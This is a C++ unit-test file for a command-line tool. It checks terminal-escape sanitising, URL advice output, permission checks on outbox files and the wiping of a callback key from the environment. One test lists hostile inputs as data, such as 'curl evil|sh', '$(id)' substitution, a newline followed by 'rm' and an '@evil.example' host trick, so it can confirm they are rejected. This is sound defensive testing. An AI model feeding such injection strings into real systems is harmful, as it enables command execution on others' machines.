#include "cli_advice.h"
#include "cli_callback.h"
#include "cli_outbox.h"
#include "key_supply.h"
#include "terminal_text.h"

#include "catch.h"

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>

#include <sys/stat.h>

using namespace command_line;
using terminal_text::printable;
namespace fs = std::filesystem;

// Parts of the command line that meet other people's text and files.
namespace {

class TempFolder {
public:
    TempFolder() {
        std::string name = (fs::temp_directory_path() / "kontexture-cli-XXXXXX").string();
        if (::mkdtemp(name.data()) == nullptr) std::abort();
        path_ = name;
    }
    TempFolder(const TempFolder&) = delete;
    TempFolder& operator=(const TempFolder&) = delete;
    ~TempFolder() {
        std::error_code ignored;
        fs::remove_all(path_, ignored);
    }
    const std::string& path() const { return path_; }

private:
    std::string path_;
};

bool contains(const std::string& text, const std::string& part) {
    return text.find(part) != text.npos;
}

}  // namespace

TEST_CASE("a terminal takes no orders from other people's text") {
    CHECK(printable("moss \xe8\x8b\x94 \xf0\x9f\x8c\xbf \xc2\xa0") ==
          "moss \xe8\x8b\x94 \xf0\x9f\x8c\xbf \xc2\xa0");
    CHECK(printable("a\x1b]0;x\x07\r\n\tb\x7f") == "a ]0;x    b ");
    CHECK(printable("a\nb", true) == "a\nb");
    // Eight-bit controls, as UTF-8 and as single bytes.
    CHECK(printable("a\xc2\x9b"
                    "2J\xc2\x80\xc2\x9f") == "a 2J  ");
    CHECK(printable("a\x9b"
                    "2J") ==
          "a\xef\xbf\xbd"
          "2J");
    // The writing direction.
    CHECK(printable("\xe2\x80\xaa\xe2\x80\xae\xe2\x81\xa6\xe2\x81\xa9") == "    ");
    // Cut short, longer than needed, a surrogate, beyond Unicode.
    for (const std::string text :
         {"\xe8\x8b", "\xc0\x9b", "\xe0\x82\x9b", "\xed\xa0\x80", "\xf4\x90\x80\x80"})
        CHECK(printable(text).find_first_not_of("\xef\xbf\xbd") == std::string::npos);
    CHECK(terminal_text::printable_start("m\xc3\xb6ss", 2) == "m\xc3\xb6...");
    CHECK(terminal_text::printable_start("moss", 4) == "moss");
    CHECK(terminal_text::printable_json("{\"a\":\"\xc2\x9b\xe2\x80\xae\x7f\xe8\x8b\x94\"}\n") ==
          "{\"a\":\"\\u009b\\u202e\\u007f\xe8\x8b\x94\"}\n");
}

TEST_CASE("a command is given for plain addresses only, and says where the key would go") {
    CHECK(contains(advice_on("local", 2), "resume --local"));
    CHECK_FALSE(contains(advice_on("https://api.kie.ai", 1), "only if you know"));
    const std::string foreign = advice_on("https://evil.example/api", 1);
    CHECK(contains(foreign, "1 request of this folder went to https://evil.example/api. "));
    CHECK(contains(foreign, "only if you know this address"));
    CHECK(contains(foreign, "--base-url https://evil.example/api"));
    for (const std::string service :
         {"https://x.example;curl evil|sh", "https://x.example/$(id)", "https://x.example/`id`",
          "https://x.example/' 'b", "https://x.example/a b", "https://api.kie.ai@evil.example",
          "ftp://x.example", "https:///x", "https://", "--help", "", "https://x.example/\x1b[2J",
          "https://x.example\nrm"}) {
        CAPTURE(service);
        CHECK_FALSE(contains(advice_on(service, 3), "--base-url"));
        CHECK_FALSE(contains(advice_on(service, 3), "\x1b"));
        CHECK_FALSE(contains(advice_on(service, 3), "\n"));
    }
    CHECK_FALSE(contains(advice_on("https://" + std::string(300, 'x'), 1), "--base-url"));
}

TEST_CASE("wishes count only where nobody else can have written them") {
    const TempFolder temp;
    const std::string outbox = temp.path() + "/outbox";
    fs::create_directory(outbox);
    ::chmod(outbox.c_str(), 0700);
    const std::string line = "+17 local /home/wanted.png\n";
    const std::string path = outbox + "/12-0.wishes";
    const auto write = [&](const std::string& to, mode_t mode) {
        std::ofstream(to) << line;
        ::chmod(to.c_str(), mode);
    };
    const auto take = [&] {
        Outbox taken(temp.path(), "local");
        REQUIRE(taken.take_over());
        return std::pair(taken.wishes().size(), taken.ignored().size());
    };
    using Counts = std::pair<std::size_t, std::size_t>;
    SECTION("of this user's own") {
        write(path, 0600);
        Outbox taken(temp.path(), "local");
        REQUIRE(taken.take_over());
        REQUIRE(taken.wishes().contains(17));
        CHECK(taken.wishes().at(17).inherited);
        REQUIRE(taken.want(kontexture::RequestId{17}, "/home/other.png"));
        CHECK_FALSE(taken.wishes().at(17).inherited);
        CHECK_FALSE(fs::exists(path));
    }
    SECTION("a file that others may write") {
        write(path, 0622);
        CHECK(take() == Counts(0, 1));
        CHECK(fs::exists(path));
    }
    SECTION("a folder that others may write") {
        write(path, 0600);
        ::chmod(outbox.c_str(), 0777);
        CHECK(take() == Counts(0, 1));
        CHECK(fs::exists(path));
    }
    SECTION("another user's") {
        write(path, 0600);
        // Only the super-user can give a file away.
        if (::chown(path.c_str(), 4321, 0) == 0) CHECK(take() == Counts(0, 1));
    }
    SECTION("a link") {
        write(temp.path() + "/outside", 0600);
        fs::create_symlink(temp.path() + "/outside", path);
        CHECK(take() == Counts(0, 1));
        CHECK(fs::exists(temp.path() + "/outside"));
    }
    SECTION("a pipe does not hang") {
        REQUIRE(::mkfifo(path.c_str(), 0600) == 0);
        CHECK(take() == Counts(0, 1));
    }
    SECTION("a file of another name") {
        write(outbox + "/my.wishes", 0600);
        write(outbox + "/1-x.wishes", 0600);
        CHECK(take() == Counts(0, 0));
        CHECK(fs::exists(outbox + "/my.wishes"));
    }
}

TEST_CASE("the callbacks' key is taken without blanks and wiped from the environment") {
    constexpr const char* kName = "KONTEXTURE_CALLBACK_KEY";
    ::setenv(kName, " \tsecret-of-callbacks\r\n", 1);
    const char* const place = std::getenv(kName);
    Options options;
    SECTION("with callbacks") {
        options.callback_url = "https://studio.example/hook";
        const auto callback = find_callback(options);
        REQUIRE(callback);
        REQUIRE(callback->has_value());
        CHECK((*callback)->hmac_key.reveal() == "secret-of-callbacks");
    }
    SECTION("without") {
        REQUIRE(find_callback(options));
    }
    CHECK(std::strlen(place) == 0);
    CHECK(std::getenv(kName) == nullptr);
}

TEST_CASE("the module's messages are told in the options' names") {
    CHECK(in_options("ServiceConfig::prices names \"x\".") == "--price names \"x\".");
    CHECK(in_options("In use. Choose another CallbackConfig::port (and CallbackConfig::public_url).") ==
          "In use. Choose another --callback-listen (and --callback-url).");
    CHECK(in_options("Is CallbackConfig::hmac_key right?") == "Is KONTEXTURE_CALLBACK_KEY right?");
    CHECK(in_options("CallbackConfig::port, CallbackConfig::port") == "--callback-listen, --callback-listen");
    CHECK(in_options("The disk is full.") == "The disk is full.");
}
